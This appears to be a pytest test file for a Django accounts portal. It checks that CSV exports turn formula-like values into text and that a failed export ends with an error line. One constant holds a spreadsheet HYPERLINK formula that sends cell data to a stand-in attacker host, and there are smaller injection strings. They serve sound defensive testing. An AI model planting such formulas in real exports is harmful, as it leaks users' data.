"""Every accounts CSV export goes through bearsms_portal.csvfile: names and reasons that look
like formulas reach the spreadsheet as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from accounts import services
from accounts.models import AuditEntry

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def sandbox(sandbox_documented):
    return sandbox_documented


def _rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_accounts_audit_and_ledger_exports_neutralise_formulas(world, client):
    services.credit_add(actor=world.operator, account=world.sub_a, amount=1, reason=EVIL)
    services.account_pref(actor=world.operator, account=world.sub_a, name="@SUM(1)")
    AuditEntry.objects.create(
        action="accountban", target_username="resa-sub", outcome="failure", message="-2+3"
    )
    client.force_login(world.operator)

    ledger = _rows(client.get(reverse("accounts:ledger_export")))
    assert [row[4] for row in ledger[1:] if row[4].endswith("A1)")] == ["'" + EVIL]
    accounts = {row[0]: row for row in _rows(client.get(reverse("accounts:list_export")))}
    assert accounts["resa-sub"][3] == "'@SUM(1)"
    audit = _rows(client.get(reverse("accounts:audit_export")))
    assert "'-2+3" in [row[6] for row in audit]
    per_account = _rows(
        client.get(reverse("accounts:account_ledger_export", kwargs={"pk": world.sub_a.pk}))
    )
    assert per_account[1][4] == "'" + EVIL


def test_an_export_that_fails_midway_ends_with_an_error_line(world, client, monkeypatch):
    """The response is already under way (200, first rows sent) when a row fails: the file
    ends with a line saying it is incomplete, not silently short."""
    from accounts import exports

    real, calls = exports.balance_of, []

    def failing(account):
        calls.append(account)
        if len(calls) == 3:
            raise RuntimeError("boom")
        return real(account)

    monkeypatch.setattr(exports, "balance_of", failing)
    client.force_login(world.operator)
    response = client.get(reverse("accounts:list_export"))
    assert response.status_code == 200
    rows = _rows(response)
    assert len(rows) == 1 + 2 + 1  # header, the two rows written, the error line
    assert rows[-1][0].startswith("ERROR: this export stopped") and "RuntimeError" in rows[-1][0]
